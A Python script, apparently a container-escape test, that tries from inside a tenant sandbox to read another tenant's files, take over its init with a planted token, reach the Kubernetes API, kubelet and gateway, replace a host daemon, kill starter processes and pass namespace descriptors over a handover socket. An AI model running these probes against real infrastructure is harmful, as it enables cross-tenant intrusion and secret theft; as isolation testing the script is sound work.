# What a tenant tries from a sandbox, as root in its container. One line of JSON for each attempt: [name, what came of it].
import array, json, os, socket, ssl, subprocess, sys, urllib.error, urllib.request

told = json.loads(sys.argv[1])
anybody = ssl._create_unverified_context()


def say(name, got):
    print(json.dumps([name, got]), flush=True)


def http(url, method="GET", body=None, headers={}):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers, method=method), timeout=5, context=anybody if url.startswith("https") else None) as r:
            return r.status, r.read(300).decode("utf8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(300).decode("utf8", "replace")
    except Exception as e:
        return 0, type(e).__name__


def grpc(host):
    """An HTTP/2 request of CSI's NodePublishVolume without a client certificate: its first frame's type, or the error."""
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.set_alpn_protocols(["h2"])
    try:
        with socket.create_connection((host, 49990), 5) as raw, c.wrap_socket(raw, server_hostname=told["own"]) as s:
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
            path = b"/csi.v1.Node/NodePublishVolume"
            block = b"\x83\x87\x44" + bytes([len(path)]) + path + b"\x41\x01x\x5f\x10application/grpc"
            s.sendall(len(block).to_bytes(3, "big") + b"\x01\x04\x00\x00\x00\x01" + block + b"\x00\x00\x05\x00\x01\x00\x00\x00\x01" + b"\0" * 5)
            s.settimeout(5)
            got = b""
            while len(got) < 4000:
                more = s.recv(4000)
                if not more:
                    break
                got += more
            return got.decode("latin1")
    except Exception as e:
        return type(e).__name__


for name, host in (("own", "127.0.0.1"), ("other's", told["other"])):
    for path in ("/", "/metrics", "/debug/pprof/", "/livez/../metrics"):
        say(f"{name} agent {path}", http(f"https://{host}:49990{path}")[0])
    say(f"{name} agent, a publish", grpc(host))
for path in ("/files?path=/etc/passwd&username=root", "/metrics", "/envs"):
    say("other's envd " + path.split("?")[0], http(f"http://{told['other']}:49983{path}")[0])
    say("other's envd, own token " + path.split("?")[0], http(f"http://{told['other']}:49983{path}", headers={"X-Access-Token": told["token"]})[0])
say("other's envd /init", http(f"http://{told['other']}:49983/init", "POST", b'{"accessToken":"mine"}', {"Content-Type": "application/json"})[0])
say("stock's envd /init", http(f"http://{told['stock']}:49983/init", "POST", b'{"accessToken":"mine"}', {"Content-Type": "application/json"})[0])
say("stock's envd /files", http(f"http://{told['stock']}:49983/files?path=/etc/passwd&username=root")[0])
say("API server", http(f"https://{told['apiserver']}/api/v1/namespaces/default/secrets")[0])
say("kubelet", http(f"https://{told['node']}:10250/pods")[0])
say("gateway without a key", http(f"http://{told['gateway']}/sandboxes")[0])
say("gateway with the sandbox's token as key", http(f"http://{told['gateway']}/sandboxes", headers={"X-API-Key": told["token"]})[0])
for n, host in enumerate(told["internals"]):
    for path in ("/debug/pprof/", "/metrics"):
        code, body = http(f"http://{host}:9090{path}")
        say(f"internals {n} {path}", [code, any(s in body for s in told["secrets"])])

say("service account", os.path.exists("/var/run/secrets/kubernetes.io/serviceaccount/token"))
for path in ("/.sandgate/bin/x", "/.sandgate/run/x"):
    try:
        open(path, "w")
        say("write " + path, True)
    except OSError as e:
        say("write " + path, e.strerror)
say("replace the daemon", subprocess.run("cp /bin/true /.sandgate/bin/envd || mount -o remount,rw /.sandgate/bin || umount /.sandgate/run", shell=True, capture_output=True).returncode)

own = os.open("/proc/self/ns/mnt", os.O_RDONLY)
made = subprocess.run(["unshare", "-Urm", "true"], capture_output=True).returncode
say("a user namespace of one's own", made)


def hand_over(fds, data=b"\x00"):
    s = socket.socket(socket.AF_UNIX, told["kind"] if "kind" in told else socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect("/.sandgate/run/handover.sock")
        s.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else [])
        return s.recv(100).decode("latin1")
    except OSError as e:
        return "refused"
    finally:
        s.close()


say("hand over one's own namespace beside the starter's", hand_over([own]))
starters = [p for p in os.listdir("/proc") if p.isdigit() and "starter" in open(f"/proc/{p}/cmdline").read().split("\0")[0]]
say("starters", len(starters))
for p in starters:
    os.kill(int(p), 9)
for name, fds in (("a directory", [os.open("/", os.O_RDONLY)]), ("the network namespace", [os.open("/proc/self/ns/net", os.O_RDONLY)]),
                  ("the user namespace", [os.open("/proc/self/ns/user", os.O_RDONLY)]), ("two", [own, own]), ("nothing", []), ("a pipe", [os.pipe()[0]])):
    say("instead of a dead starter, hand over " + name, hand_over(fds))
